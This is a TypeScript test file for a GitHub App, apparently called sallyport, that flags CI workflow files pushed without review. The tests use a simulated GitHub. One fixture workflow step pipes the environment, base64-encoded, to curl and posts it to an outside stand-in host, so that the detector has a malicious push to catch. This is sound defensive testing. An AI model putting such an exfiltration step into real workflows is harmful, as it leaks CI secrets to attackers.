import { addBot, addOrganization, addRepository, addUser } from "@sallyport/simulator/src/build/build.ts";
import { deleteBranch, pushOfMerge, pushToBranch } from "@sallyport/simulator/src/build/build-push.ts";
import { addedFile, commitTo, openPullRequest } from "@sallyport/simulator/src/build/build-work.ts";
import { checkSuiteRequestedWebhook, pushWebhook } from "@sallyport/simulator/src/payload/push.ts";
import { type ChangedFile, createWorld, type Repository } from "@sallyport/simulator/src/world/world.ts";
import type { BranchPush } from "@sallyport/simulator/src/world/world-history.ts";
import type { UnreviewedPush } from "../../../src/decision/unreviewed-push.ts";
import { repositoryId } from "../../../src/ids.ts";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "../../support/jest.ts";
import { NO_DEEP_SCANS, type RunningApp, runApp } from "../../support/running-app.ts";

const NOW = "2026-03-02T10:00:00.000Z";
const NO_COMMIT = "0".repeat(40);
const world = createWorld();
const owner = addUser(world, { login: "olga-example", createdAt: "2015-01-01T00:00:00Z" });
const pusher = addUser(world, { login: "paul-example", createdAt: "2016-01-01T00:00:00Z" });
const bot = addBot(world, { login: "release-example[bot]", createdAt: "2020-01-01T00:00:00Z" });
const organization = addOrganization(world, { login: "octo-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });

const CI = ".github/workflows/ci.yml";
const DROPPER = addedFile(
  ".github/workflows/format.yml",
  "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: env | base64 | curl -d @- https://example.invalid\n",
);
const PLAIN = addedFile(CI, "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n");

/** A repository whose workflows came by merged pull requests, or by pushes. */
function repositoryNamed(
  name: string,
  {
    pushed = false,
    visibility = "public",
  }: { readonly pushed?: boolean; readonly visibility?: "public" | "private" } = {},
): Repository {
  const made = addRepository(world, { owner: organization, name, createdAt: "2017-01-01T00:00:00Z", visibility });
  commitTo(world, made, { by: owner, at: "2025-01-01T00:00:00Z", message: "Start" });
  for (let index = 0; index < 6; index++) {
    const about = { author: owner, at: "2025-02-01T00:00:00Z", files: [{ ...PLAIN, status: "modified" as const }] };
    if (pushed) commitTo(world, made, { by: owner, message: "Build", ...about });
    else
      pushOfMerge(world, openPullRequest(world, made, { title: "Build", ...about }), {
        by: owner,
        at: about.at,
        way: "squash",
      });
  }
  return made;
}

const wallet = repositoryNamed("wallet");
let app: RunningApp;

beforeAll(async () => {
  app = await runApp({ world, organization, owner, now: NOW, policy: NO_DEEP_SCANS });
});
afterEach(() => {
  app.sim.faults.clear();
  app.sim.expectNoViolations();
});
afterAll(() => app.stop());

const pushTo = (
  to: Repository,
  files: readonly ChangedFile[],
  more: Partial<Parameters<typeof pushToBranch>[2]> = {},
) => pushToBranch(world, to, { author: pusher, at: app.clock.now(), message: "Update", files, ...more });

const suite = (push: BranchPush) => app.tell(checkSuiteRequestedWebhook(app.sim.stage, push));
/** Lets GitHub's own lag pass. */
async function later(): Promise<void> {
  await app.pass(21);
  await app.settle();
}
const alerts = (): Promise<readonly UnreviewedPush[]> => app.tenant().alertedPushes();
const ofHead = async ({ after }: BranchPush): Promise<UnreviewedPush | undefined> =>
  (await alerts()).find(({ headSha }) => headSha === after);

test("a workflow pushed past every reviewer is flagged within a minute, with the lines that say why", async () => {
  const push = pushTo(wallet, [DROPPER]);
  await suite(push);
  expect(await ofHead(push)).toBe(undefined);
  await later();
  const found = await ofHead(push);
  expect(found).toMatchObject({
    repositoryName: "wallet",
    branch: "main",
    before: push.before,
    level: "critical",
    state: { kind: "open" },
  });
  const [first] = found?.findings ?? [];
  expect(first).toMatchObject({ signal: "chg-direct-workflow-push", path: DROPPER.path, line: 6 });
  expect(first?.lines.map(({ text }) => text)).toContain(
    "      - run: env | base64 | curl -d @- https://example.invalid",
  );
  expect(JSON.stringify(found)).not.toMatch(/paul-example|olga-example/);
});

test("told of twice it is one job, and told of again days later nothing new", async () => {
  const push = pushTo(repositoryNamed("twice"), [DROPPER]);
  const before = (await alerts()).length;
  const finished = () => app.logged("job.finished").filter(({ kind }) => kind === "judge-push").length;
  const runs = finished();
  app.installation.permissions = { ...app.installation.permissions, contents: "read" };
  for (const each of world.apps.values()) Object.assign(each, { events: [...each.events, "push"] });
  await suite(push);
  await app.tell(pushWebhook(app.sim.stage, push));
  await later();
  expect([(await alerts()).length - before, finished() - runs]).toEqual([1, 1]);
  await app.tell(pushWebhook(app.sim.stage, push));
  await later();
  expect((await alerts()).length - before).toBe(1);
});

describe("look-alikes: nobody is asked to look", () => {
  const CASES: Readonly<Record<string, () => BranchPush | readonly BranchPush[]>> = {
    ...Object.fromEntries(
      (["merge", "squash", "rebase"] as const).map((way) => [
        `a pull request that was merged: ${way}`,
        () => {
          const files = [PLAIN, DROPPER];
          const opened = openPullRequest(world, wallet, {
            author: pusher,
            title: "Format",
            at: app.clock.now(),
            files,
          });
          return pushOfMerge(world, opened, { by: owner, at: app.clock.now(), way });
        },
      ]),
    ),
    "a merge queue that puts two at once on the branch": () => {
      const both = ["One", "Two"].map((title) =>
        openPullRequest(world, wallet, { author: pusher, title, at: app.clock.now(), files: [DROPPER] }),
      );
      const pushes = both.map((each) => pushOfMerge(world, each, { by: owner, at: app.clock.now(), way: "squash" }));
      const [first, last] = [pushes[0] as BranchPush, pushes[1] as BranchPush];
      const whole = { ...last, before: first.before, commits: [...first.commits, ...last.commits] };
      world.branchPushes.push(whole);
      return whole;
    },
    "ordinary code": () => pushTo(wallet, [addedFile("src/a.ts", "export const a = 1;\n")]),
    "a forced push that goes back to what was there": () => pushTo(wallet, [], { forced: true }),
    "a forced push of ordinary code": () => pushTo(wallet, [addedFile("src/b.ts", "export {};\n")], { forced: true }),
    "a branch that nobody releases from": () => pushTo(wallet, [DROPPER], { branch: "feature/x", before: NO_COMMIT }),
    "a release branch made of what stands on the default branch": () =>
      pushTo(wallet, [], { branch: "release/1.0", before: NO_COMMIT }),
    "the first push of a repository": () =>
      pushTo(addRepository(world, { owner: organization, name: "new", createdAt: NOW }), [PLAIN], {
        before: NO_COMMIT,
      }),
    "an App that moves a pin": () => pushTo(wallet, [{ ...PLAIN, status: "modified" }], { by: bot }),
    "a workflow where most of them are pushed": () => pushTo(repositoryNamed("solo", { pushed: true }), [PLAIN]),
    "a workflow where nobody can say": () =>
      pushTo(
        (() => {
          const young = addRepository(world, { owner: organization, name: "young", createdAt: NOW });
          commitTo(world, young, { by: owner, at: NOW, message: "Start" });
          return young;
        })(),
        [PLAIN],
      ),
  };

  test.each(Object.entries(CASES))("%s", async (_when, pushed) => {
    const before = (await alerts()).length;
    for (const push of [pushed()].flat()) await suite(push);
    await later();
    expect((await alerts()).length).toBe(before);
  });

  test("a branch that is gone, and a tag: not even taken in", async () => {
    const gone = deleteBranch(world, wallet, { by: owner, at: NOW, branch: "release/0.9", before: "a".repeat(40) });
    const moved = pushWebhook(app.sim.stage, pushTo(wallet, [DROPPER], { branch: "release/x", before: NO_COMMIT }));
    const tag = { ...moved, payload: { ...moved.payload, ref: "refs/tags/v1" } };
    const snoozed = app.logged("job.snoozed").length;
    for (const webhook of [pushWebhook(app.sim.stage, gone), tag]) await app.tell(webhook);
    expect(app.logged("job.snoozed").length).toBe(snoozed);
  });
});

test("a release branch and a pushed merge of nobody's pull request are looked at", async () => {
  const kept = repositoryNamed("branches");
  const pushes = [
    pushTo(kept, [DROPPER], { branch: "release/2.0", before: NO_COMMIT }),
    pushTo(kept, [{ ...DROPPER, path: ".github/workflows/x.yml" }], { forced: true }),
  ];
  for (const push of pushes) await suite(push);
  await later();
  for (const push of pushes) expect(await ofHead(push)).toMatchObject({ level: "critical" });
});

test("a burst over many repositories is one alert that lists them, and one message", async () => {
  await app.pass(3_600);
  const files = [{ ...DROPPER, path: ".github/workflows/burst.yml" }];
  const pushes = Array.from({ length: 12 }, (_, index) => pushTo(repositoryNamed(`burst-${index}`), files));
  for (const push of pushes) await suite(push);
  await later();
  const found = (await alerts()).filter(({ headSha }) => pushes.some(({ after }) => after === headSha));
  expect([found.length, new Set(found.map(({ alertId }) => alertId)).size]).toEqual([12, 1]);
  // The same file in the same minutes under another name is the same burst; after it is over, another.
  const renamed = pushTo(repositoryNamed("burst-renamed"), [{ ...DROPPER, path: ".github/workflows/other.yml" }]);
  await suite(renamed);
  await later();
  expect((await ofHead(renamed))?.alertId).toBe(found[0]?.alertId);
  await app.pass(3_600);
  const next = pushTo(repositoryNamed("burst-later"), files);
  await suite(next);
  await later();
  expect((await ofHead(next))?.alertId).not.toBe(found[0]?.alertId);
});

test("what GitHub does not show is said, and is no alarm", async () => {
  const vault = repositoryNamed("vault", { visibility: "private" });
  const { contents: _, ...permissions } = app.installation.permissions;
  app.installation.permissions = permissions;
  const hidden = pushTo(vault, [DROPPER]);
  const long = pushTo(
    repositoryNamed("long"),
    Array.from({ length: 301 }, (_, index) => addedFile(`src/${index}.ts`, "export {};\n")),
  );
  for (const push of [hidden, long]) await suite(push);
  await later();
  expect([await ofHead(hidden), await ofHead(long)]).toEqual([undefined, undefined]);
  const unseen = await app.tenant().unseenPushes();
  const because = (push: BranchPush) => unseen.find(({ headSha }) => headSha === push.after)?.notChecked[0]?.because;
  expect([because(hidden), because(long)]).toEqual([
    "GitHub shows it to Apps with Contents: read alone",
    "GitHub shows the first 300 files of a push",
  ]);
});

test.each(["repos/list-pull-requests-associated-with-commit", "repos/compare-commits", "graphql/EarlierCommits"])(
  "%s fails for a while: the push waits, and is judged when GitHub is back",
  async (operation) => {
    app.sim.faults.add(operation, { kind: "status", status: 502 }, { times: 6 });
    const push = pushTo(repositoryNamed(`waits-${operation.split("/")[1]}`), [DROPPER]);
    await suite(push);
    await later();
    for (let tries = 0; tries < 6 && !(await ofHead(push)); tries++) {
      await app.pass(600);
      await app.settle();
    }
    expect(await ofHead(push)).toMatchObject({ level: "critical" });
  },
);

test("a head that is known at once is asked for again where GitHub lags behind its own event", async () => {
  app.sim.faults.add("repos/compare-commits", { kind: "status", status: 404 }, { times: 1 });
  const push = pushTo(repositoryNamed("lags"), [DROPPER]);
  await suite(push);
  await later();
  await app.settle();
  expect(await ofHead(push)).toMatchObject({ level: "critical" });
  expect(await app.tenant().hasPush(repositoryId(push.repositoryId), { branch: "main", headSha: push.after })).toBe(
    true,
  );
});
